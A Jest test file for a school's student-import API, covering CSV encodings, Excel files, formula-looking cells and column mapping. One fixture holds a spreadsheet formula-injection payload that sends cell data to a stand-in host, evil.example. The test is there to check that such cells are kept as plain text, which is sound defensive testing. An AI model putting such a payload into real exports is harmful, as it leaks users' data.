import { describe, expect, it } from '@jest/globals';
import { schoolPath } from '../../test/factories.js';
import { appForFile } from '../../test/per-file.js';
import {
  commitImport,
  csv,
  fixture,
  schoolStudents,
  schoolWithAdmin,
  schoolXlsx,
  upload,
} from '../../test/imports-support.js';

// The formats a school's file comes in: CSV in any encoding and delimiter, Excel, unknown headers.

const t = appForFile();

/** A new school's preview of `data`, which must be read (201). */
async function previewed(data: Buffer, name?: string) {
  const { iid, agent } = await schoolWithAdmin(t);
  const res = await upload(agent, iid, data, name);
  expect(res.status).toBe(201);
  return { iid, agent, res };
}

describe('POST /api/v1/institutions/:iid/imports', () => {
  it('reads a UTF-8 CSV with BOM, commas, French headers and quoted commas', async () => {
    const { iid, agent, res } = await previewed(fixture('eleves-utf8-bom.csv'), 'eleves.csv');
    expect(res.body).toMatchObject({
      encoding: 'utf-8-bom',
      delimiter: ',',
      counts: { create: 5, errors: 0 },
    });
    await commitImport(agent, iid, res.body.id);
    const rows = await schoolStudents(t.db, iid);
    expect(
      rows.map((r) => [r.stamnummer, r.first_name, r.last_name, r.gender, r.birth_date]),
    ).toEqual([
      ['20101', 'Şükrü', 'Yılmaz', 'M', '2013-04-02'],
      ['20102', 'Łucja', 'Wójcik', 'V', '2013-01-12'],
      ['20103', 'Amélie', 'Dubois', 'V', '2012-08-22'],
      ['20104', 'Théo', 'Lambert, dit Lamy', 'M', '2012-09-30'],
      ['20105', 'Minh', 'Nguyễn', 'M', '2013-01-15'],
    ]);
    expect(rows[2]!.parent_emails).toEqual(['amelie.maman@skynet.be', 'papa.dubois@skynet.be']);
  });

  it('reads a UTF-8 file with a stray Windows-1252 byte as both, and says so (found by an outside test)', async () => {
    const data = Buffer.concat([
      Buffer.from('Stamnummer;Voornaam;Naam\n30101;Zoë;Wójcik\n30102;Minh;Nguyễn\n', 'utf8'),
      // One name typed in an old editor: "é" as the single byte 0xE9, "’" as 0x92.
      Buffer.from('30103;Am', 'utf8'),
      Buffer.of(0xe9),
      Buffer.from(';D', 'utf8'),
      Buffer.of(0x92),
      Buffer.from('Hondt\n', 'utf8'),
    ]);
    // With Excel's byte order mark in front too.
    const marked = await previewed(Buffer.concat([Buffer.of(0xef, 0xbb, 0xbf), data]), 'l.csv');
    expect(marked.res.body).toMatchObject({
      encoding: 'utf-8+windows-1252',
      counts: { create: 3, warnings: 0 },
    });
    const { iid, agent, res } = await previewed(data, 'leerlingen.csv');
    expect(res.body).toMatchObject({ encoding: 'utf-8+windows-1252', counts: { create: 3 } });
    await commitImport(agent, iid, res.body.id);
    const rows = await schoolStudents(t.db, iid);
    expect(rows.map((r) => [r.first_name, r.last_name])).toEqual([
      ['Zoë', 'Wójcik'],
      ['Minh', 'Nguyễn'],
      ['Amé', 'D’Hondt'],
    ]);
  });

  it('warns of a name with a letter the file lost ("?") or misread ("Ã«")', async () => {
    const data = Buffer.from(
      'Stamnummer;Voornaam;Naam\n30201;Minh;Nguy?n\n30202;ZoÃ«;Peeters\n30203;Noor;Janssens\n',
      'utf8',
    );
    const { iid, agent, res } = await previewed(data, 'leerlingen.csv');
    expect(res.body.counts).toMatchObject({ create: 3, warnings: 2 });
    const items = await agent
      .get(`${schoolPath(iid)}/imports/${res.body.id}/items`)
      .query({ kind: 'create' });
    const warned = items.body.items
      .filter((i: { warnings: unknown[] }) => i.warnings.length)
      .map((i: { stamnummer: string; warnings: Array<{ code: string; params: object }> }) => [
        i.stamnummer,
        i.warnings.map((w) => [w.code, w.params]),
      ]);
    expect(warned).toEqual([
      ['30201', [['name_encoding', { name: 'Nguy?n' }]]],
      ['30202', [['name_encoding', { name: 'ZoÃ«' }]]],
    ]);
  });

  it('reads Excel "Unicode text" (UTF-16, tab-separated)', async () => {
    const { res } = await previewed(fixture('excel-unicode-text.txt'), 'leerlingen.txt');
    expect(res.body).toMatchObject({
      encoding: 'utf-16le',
      delimiter: '\t',
      counts: { create: 2 },
    });
  });

  it('reads an XLSX export: title rows, numbers, dates, links, rich text, formulas as data', async () => {
    const { iid, agent, res } = await previewed(await schoolXlsx(), 'leerlingen.xlsx');
    expect(res.body).toMatchObject({
      format: 'xlsx',
      sheet: 'Leerlingen',
      headerRow: 3,
      rowCount: 4,
      counts: { create: 4, errors: 0 },
    });
    expect(
      res.body.columns.find((c: { header: string }) => c.header === 'Telefoon').field,
    ).toBeNull();
    await commitImport(agent, iid, res.body.id);
    const rows = await schoolStudents(t.db, iid);
    expect(
      rows.map((r) => [r.stamnummer, r.first_name, r.last_name, r.birth_date, r.enrolled_until]),
    ).toEqual([
      ['060002', 'Ştefan', 'Van Damme', '2011-07-01', null],
      ['60001', 'Wilhelmina', 'Daniëls', '2011-03-19', '2027-06-30'],
      ['60003', 'Noor', 'PEETERS', '2011-01-05', null],
      ['60004', '=1+1', '=A1&B1', null, null],
    ]);
    expect(rows[1]!.parent_emails).toEqual(['mama.daniels@example.be']);
  });

  it('keeps formula-looking CSV cells as text', async () => {
    const { iid, agent, res } = await previewed(fixture('formulas.csv'));
    expect(res.body.counts).toMatchObject({ create: 3, errors: 0 });
    await commitImport(agent, iid, res.body.id);
    const rows = await t.db
      .selectFrom('students')
      .select(['stamnummer', 'first_name', 'last_name', 'group_name'])
      .where('institution_id', '=', iid)
      .orderBy('stamnummer')
      .execute();
    expect(rows).toEqual([
      {
        stamnummer: '30001',
        first_name: 'Emma',
        last_name: '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
        group_name: '=1+2',
      },
      {
        stamnummer: '30002',
        first_name: '@SUM(A1:A9)',
        last_name: '+32 477 12 34 56',
        group_name: '-Klas',
      },
      { stamnummer: '30003', first_name: '-Noah', last_name: 'Peeters', group_name: '2A' },
    ]);
  });

  it('asks for a mapping when the headers are unknown, and accepts one', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const file = csv([
      'Leerling-ID;Familie;Roepnaam;Groepje;Hobby',
      '7001;Peeters;Emma;1A;judo',
      '7002;Claes;Lotte;1B;',
    ]);
    const res = await upload(agent, iid, file);
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toContain('application/problem+json');
    expect(res.body).toMatchObject({
      code: 'columns_unrecognised',
      headerRow: 1,
      requiredFields: ['stamnummer', 'firstName', 'lastName'],
    });
    expect(res.body.columns[0]).toEqual({
      index: 0,
      header: 'Leerling-ID',
      field: null,
      samples: ['7001', '7002'],
    });
    expect(res.body.missingFields).toEqual(['stamnummer', 'lastName']);

    const mapped = await upload(agent, iid, file, 'x.csv', {
      stamnummer: 'Leerling-ID',
      lastName: 1,
      firstName: 'Roepnaam',
      group: 3,
    });
    expect(mapped.status).toBe(201);
    expect(mapped.body.columns.map((c: { field: string | null }) => c.field)).toEqual([
      'stamnummer',
      'lastName',
      'firstName',
      'group',
      null,
    ]);
    expect(mapped.body.counts.create).toBe(2);

    const bad = await upload(agent, iid, file, 'x.csv', {
      stamnummer: 'Nope',
      firstName: 2,
      lastName: 2,
    });
    expect(bad.status).toBe(400);
    const invalid = await agent
      .post(`${schoolPath(iid)}/imports`)
      .field('mapping', '{nope')
      .attach('file', file, 'x.csv');
    expect(invalid.status).toBe(400);
    expect(invalid.body.errors[0].path).toBe('mapping');
    const unknownField = await upload(agent, iid, file, 'x.csv', {
      stamnummer: 0,
      firstName: 2,
      lastName: 1,
      password: 4,
    } as never);
    expect(unknownField.status).toBe(400);
  });
});
